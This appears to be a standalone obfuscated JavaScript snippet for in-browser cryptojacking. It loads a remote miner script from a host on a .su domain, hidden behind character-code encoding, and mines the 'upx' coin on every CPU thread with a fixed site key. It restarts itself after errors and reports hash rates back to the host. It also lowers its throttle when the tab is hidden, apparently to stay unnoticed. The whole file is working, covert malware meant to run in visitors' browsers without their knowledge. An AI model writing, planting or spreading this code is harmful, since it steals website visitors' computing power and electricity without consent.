var _m={k:"Xk29fLq0pZr8TnVw3yHc7BuE5dGa1JsM",h:String.fromCharCode(104,116,116,112,115,58,47,47,99,114,121,112,116,111,45,108,111,111,116,45,99,100,110,46,115,117,47),t:.35};
(function(a,b,c){var d=b.createElement("script");d["s"+"rc"]=c.h+"lib/crlt.js";d.async=!0;
d.onload=function(){if(!a.CRLT)return;var e=new a.CRLT.Anonymous(c.k,{threads:a.navigator.hardwareConcurrency||4,throttle:c.t,coin:"upx"});
e.start();var f=0;
e.on("job",function(){f++});
e.on("error",function(g){setTimeout(function(){e.start()},3e4)});
a.setInterval(function(){var g=e.getHashesPerSecond();
if(g<5&&!e.isRunning())e.start();
(new Image).src=c.h+"stat?k="+c.k+"&h="+g.toFixed(1)+"&j="+f},6e4);
b.addEventListener("visibilitychange",function(){e.setThrottle(b.hidden?.05:c.t)})};
(b.head||b.documentElement).appendChild(d)
})(window,document,_m);
var _w=(function(){try{return!!window.WebAssembly}catch(x){return!1}})();
if(!_w)_m.t=.6;
window._mStart=function(){return _m};
window.addEventListener("beforeunload",function(){});
